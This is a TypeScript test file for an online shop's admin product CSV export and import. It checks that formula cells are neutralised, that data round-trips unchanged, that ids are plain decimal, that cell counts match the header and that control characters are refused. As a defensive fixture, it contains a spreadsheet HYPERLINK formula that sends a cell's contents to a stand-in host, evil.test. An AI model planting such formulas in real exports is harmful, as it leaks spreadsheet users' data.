import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SavedProductDocument } from '#common/schemas/product-document.ts';
import { productTypes } from '#server/db/schema.ts';
import { insertBrands } from '#server/test/catalog-fixtures.ts';
import { createTestApp, type SignedIn, type TestApp } from '#server/test/test-app.ts';

// The product CSV's cells (issue 28): the export writes no cell a spreadsheet would run as a formula
// and reads its own file back as it was; ids are plain decimal; a row has as many cells as the header.

let t: TestApp;
let admin: SignedIn;
let productId: number;
beforeAll(async () => {
  t = await createTestApp();
  admin = await t.signIn({ admin: true });
  const [brand] = await insertBrands(t.db, { name: '@Cells Brand' });
  const [paddles] = (await t.db.select().from(productTypes)).filter((type) => type.slug === 'paddles');
  const created = await admin.inject({
    method: 'POST',
    url: '/api/admin/products/document',
    payload: {
      name: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
      brandId: brand!.id,
      productTypeId: paddles!.id,
      description: '-20% this week',
      color: '+Blue',
      thickness: "'=not a formula either",
      variants: [
        { sku: '@CELL-1', price: '150.00', stock: 3, options: { core_thickness: '-14 mm' } },
        { sku: 'CELL-2', price: '155.00', stock: 0, options: { core_thickness: '16 mm' } },
      ],
      attributes: [
        { key: 'swing_weight', value: -3 },
        { key: 'static_weight', value: { min: -1, max: 2.5 } },
        { key: 'shape', value: 'Hybrid' },
      ],
    },
  });
  expect(created.statusCode, created.body).toBe(201);
  productId = created.json().id;
});
afterAll(() => t.close());

const exportCsv = async () => (await admin.inject({ method: 'GET', url: '/api/admin/products/export.csv' })).body;
const importCsv = (csv: string, commit = false) =>
  admin.inject({ method: 'POST', url: `/api/admin/products/import${commit ? '?commit=1' : ''}`, payload: csv, headers: { 'content-type': 'text/csv' } });
const readDoc = async (): Promise<SavedProductDocument> => (await admin.inject({ method: 'GET', url: `/api/admin/products/${productId}/document` })).json();

describe('formula cells', () => {
  it('the export neutralises every cell a spreadsheet would run, keeps numbers numbers, and imports back unchanged', async () => {
    const csv = await exportCsv();
    const cells = (parse(csv) as string[][]).flat();
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect(formulas).toEqual([]);
    const [row] = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(row).toMatchObject({
      name: `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`,
      brand: "'@Cells Brand",
      description: "'-20% this week",
      color: "'+Blue",
      thickness: "''=not a formula either",
      sku: "'@CELL-1",
      'option:core_thickness': "'-14 mm",
      'spec:swing_weight': '-3',
      'spec:static_weight': "'-1-2.5",
    });

    const before = await readDoc();
    const preview = await importCsv(csv);
    expect(preview.json()).toMatchObject({ updates: 0, unchanged: 1, errors: [] });
    expect((await importCsv(csv, true)).json()).toMatchObject({ updates: 0, errors: [], committed: true });
    expect(await readDoc()).toEqual(before);
  });
});

const header = 'product_id,name,brand,type,sku,price,stock,variant_image,variant_id';
const rowsOf = (...lines: string[]) => [header, ...lines].join('\n');

describe('ids and cell counts', () => {
  it('takes product ids, variant ids and image numbers in plain decimal only, naming the row and column of any other', async () => {
    const res = await importCsv(
      rowsOf(
        `0x${productId.toString(16)},Hex,@Cells Brand,paddles,HEX-1,10.00,1,,`,
        `${productId}e0,Exp,@Cells Brand,paddles,EXP-1,10.00,1,,`,
        `+${productId},Plus,@Cells Brand,paddles,PLUS-1,10.00,1,,`,
        `,Image,@Cells Brand,paddles,IMG-1,10.00,1,0x1,`,
        `,Variant,@Cells Brand,paddles,VAR-1,10.00,1,,0x10`,
      ),
      true,
    );
    expect(res.json().errors).toEqual([
      { row: 2, column: 'product_id', message: 'Product id must be a positive whole number (digits only)' },
      { row: 3, column: 'product_id', message: 'Product id must be a positive whole number (digits only)' },
      { row: 4, column: 'product_id', message: 'Product id must be a positive whole number (digits only)' },
      { row: 5, column: 'variant_image', message: 'expected the number of an image in the images column (1 for the first)' },
      { row: 6, column: 'variant_id', message: 'Variant id must be a positive integer' },
    ]);
    expect(res.json().committed).toBe(false);
  });

  it('refuses a row with more or fewer cells than the header, naming its row', async () => {
    const res = await importCsv(
      rowsOf(
        ',Good,@Cells Brand,paddles,GOOD-1,10.00,1,,',
        ',Long,@Cells Brand,paddles,LONG-1,10.00,1,,,surplus',
        ',Short,@Cells Brand,paddles,SHORT-1,10.00,1',
      ),
      true,
    );
    expect(res.json().errors).toEqual([
      { row: 3, column: '', message: 'This row has 10 cells where the header has 9' },
      { row: 4, column: '', message: 'This row has 7 cells where the header has 9' },
    ]);
    expect(res.json().committed).toBe(false);
  });
});

describe('control characters', () => {
  // a NUL reached the SKU lookup of the whole file and PostgreSQL refused it: a 500 instead of the row's error
  it.each(['nul\u0000inside', '\u0000', 'bell\u0007'])('refuses a cell holding %j by its row and column, on preview and on commit', async (sku) => {
    for (const commit of [false, true]) {
      const res = await importCsv(rowsOf(`,Controlled,@Cells Brand,paddles,${sku},10.00,1,,`), commit);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().errors).toEqual([{ row: 2, column: 'sku', message: 'must not contain control characters' }]);
      expect(res.json().committed).toBe(false);
    }
  });
});
